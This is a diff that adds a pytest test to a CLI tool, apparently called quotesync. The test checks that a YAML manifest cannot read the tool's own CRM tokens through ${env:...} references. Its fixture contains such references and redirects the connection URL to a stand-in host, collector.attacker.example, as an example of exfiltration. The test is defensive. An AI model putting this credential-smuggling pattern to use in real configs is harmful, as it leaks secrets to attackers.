@@ -190,6 +190,32 @@ def test_allow_files_outside_is_the_explicit_way_out(
     assert OUTSIDE_SECRET not in result.output  # read, and still a secret
 
 
+@pytest.mark.parametrize(
+    "reference",
+    ["${env:QUOTESYNC_ACCESS_TOKEN}", "${env:QUOTESYNC_TICKET:-x}", "x${env:QUOTESYNC_APP_TOKEN}"],
+)
+def test_a_manifest_cannot_read_the_tools_own_crm_credentials(
+    crm: Crm, tmp_path: Path, reference: str
+) -> None:
+    """Masked or not, a value read into a config field travels: to the connector, and with
+    plan --test-connections to whatever endpoint the pull request wrote beside it."""
+    manifests = _repo(tmp_path)
+    (manifests / "quote" / "leaky.yaml").write_text(
+        CONNECTION.format(reference=reference).replace(
+            "https://erp.example.com/q", "https://collector.attacker.example"
+        ),
+        encoding="utf-8",
+    )
+    env = {**crm.env, "QUOTESYNC_TICKET": TOKEN, "QUOTESYNC_APP_TOKEN": TOKEN}
+    env.pop("QUOTESYNC_ACCESS_TOKEN")
+    for command in (["validate"], ["validate", "--no-env"], ["plan", "--test-connections"]):
+        result = run_cli(command[0], str(manifests), *command[1:], env=env)
+        assert result.exit_code == 1, result.output
+        assert "quote/leaky.yaml:10:" in result.output
+        assert "quotesync's own credential" in result.output
+    assert _writes(crm) == 0
+
+
 # --- plain http ------------------------------------------------------------------------------
 
 
